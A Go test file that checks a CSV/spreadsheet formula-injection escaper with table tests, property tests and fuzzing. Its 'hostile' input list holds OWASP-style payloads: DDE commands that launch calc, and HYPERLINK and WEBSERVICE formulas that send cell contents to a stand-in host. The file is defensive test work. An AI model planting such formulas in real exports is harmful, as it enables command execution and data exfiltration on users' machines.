package sheet

import (
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// hostile is what somebody may write in a text so that another's spreadsheet runs it. The list follows OWASP's page on CSV
// injection, and adds what hides the first character or moves the start of the cell.
var hostile = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	`=HYPERLINK("https://ond.example/?x="&A1;"Les mer")`, `=IMPORTXML("https://ond.example","//a")`, `=WEBSERVICE("https://ond.example")`, `=DDE("soffice","x.ods","A1")`,
	"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\tinnrykk", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u200f\u200e=1+1", "\v=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)",
	"'=1+1", "''=1+1", "'", "'0301", "' =1+1",
	`x",=1+1,"`, `x";=1+1;"`, "tekst;=1+1;tekst", "tekst,=1+1,tekst", "tekst\t=1+1", "linje\n=1+1\nlinje", "tekst,@SUM(1+1)", "tekst;-cmd|' /C calc'!A0;", "tekst,+SUM(A1:A9)", `x,"=1+1"`,
	"{=1+1}", "sep=;", "ID;x", "0301", "1-2", "1E5", "TRUE", "#REF!", "-", "=", "",
	"_x0041_", "_x0041_x0042_", "_xD800_", "_x005F_x0041_", "_x000D_", "</t></is></c><c><f>1+1</f></c>", "]]>", "<f>1+1</f>&lt;", `"`, `""`, ` mellomrom `,
	strings.Repeat("=1+1;", 20), strings.Repeat("'", 50) + "=1", "=" + strings.Repeat("A1+", 12_000) + "1", "\u202eאבג\u202c", "👩‍👩‍👧 familie", "a\u0301",
}

func TestSafe(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "Færre fall": "Færre fall", "a=b": "a=b", "a - b": "a - b", "kari@vefsn.example": "kari@vefsn.example", "tlf. 75 10 10 00, +47": "tlf. 75 10 10 00, +47",
		"=1": "'=1", "+47 75 10": "'+47 75 10", "-5": "'-5", "@kari": "'@kari", "\tx": "'\tx", "\r\nx": "'\r\nx", " =1": " '=1", "\u200b=1": "\u200b'=1", "＝1": "'＝1",
		"'=1": "''=1", "'x": "'x", "' =1": "' =1",
		"- trening\n- kurs (to dager)": "'- trening\n- kurs (to dager)", // a list is left alone from its second line
		"Behov, -5 grader":             "Behov, -5 grader", "a;=1": "a;'=1", "a,\"=1": "a,\"'=1", "a\n@SUM(1)": "a\n'@SUM(1)", "a;-cmd|x": "a;'-cmd|x", "a,+SUM(1)": "a,'+SUM(1)",
	} {
		if got := Safe(text); got != want {
			t.Errorf("Safe(%q) is %q, want %q", text, got, want)
		}
	}
}

// begins is the law in other words: no place where a spreadsheet, with any separator, could begin a cell has a sign there.
// Quotation marks that begin the whole text are its own, since CSV doubles and surrounds them.
func begins(text string) string {
	if text != "" && strings.ContainsRune("=+-@\t\r\n", rune(text[0])) {
		return "the text begins with a sign"
	}
	for i := range len(text) {
		if i > 0 && !strings.ContainsRune(separators, rune(text[i-1])) {
			continue
		}
		blanks := "\" \u00a0\u200b"
		if i == 0 {
			blanks = blanks[1:]
		}
		if part := strings.TrimLeft(text[i:], blanks); part != "" && strings.ContainsRune("=@", rune(part[0])) {
			return "a part begins with a sign: " + part
		}
	}
	return ""
}

func checkSafe(t interface{ Fatalf(string, ...any) }, text string) {
	safe := Safe(text)
	if Plain(safe) != text {
		t.Fatalf("Plain(Safe(%q)) is %q", text, Plain(safe))
	}
	if why := begins(safe); why != "" {
		t.Fatalf("Safe(%q) is %q: %s", text, safe, why)
	}
	if strings.ReplaceAll(safe, "'", "") != strings.ReplaceAll(text, "'", "") {
		t.Fatalf("Safe(%q) is %q, which differs in more than apostrophes", text, safe)
	}
}

func TestSafe_can_be_undone(t *testing.T) {
	for _, text := range hostile {
		checkSafe(t, text)
	}
	rapid.Check(t, func(t *rapid.T) { checkSafe(t, oddText().Draw(t, "text")) })
}

func FuzzSafe(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) { checkSafe(t, text) })
}

// oddText draws texts of what tends to break: signs, separators, quotes, escapes, control characters, marks that turn the
// writing, characters beyond U+FFFF, bytes that are no text.
func oddText() *rapid.Generator[string] {
	piece := rapid.OneOf(
		rapid.SampledFrom([]string{
			"=", "+", "-", "@", "'", "''", `"`, ",", ";", "\t", "\n", "\r", "\r\n", " ", "\u00a0", "|", "(", "1", "A1", "_x0041_", "_x", "005F_", "&", "<", ">", "]]>",
			"\x00", "\x0b", "\x7f", "\x85", "\xff", "\xed\xa0\x80", "\ufffe", "\uffff", "\ufffd", "\ufeff", "\u200b", "\u202e", "\u2028", "😀", "𝔄", "å", "a\u030a", "＝",
		}),
		rapid.StringN(0, 3, -1),
	)
	return rapid.Custom(func(t *rapid.T) string { return strings.Join(rapid.SliceOfN(piece, 0, 8).Draw(t, "pieces"), "") })
}
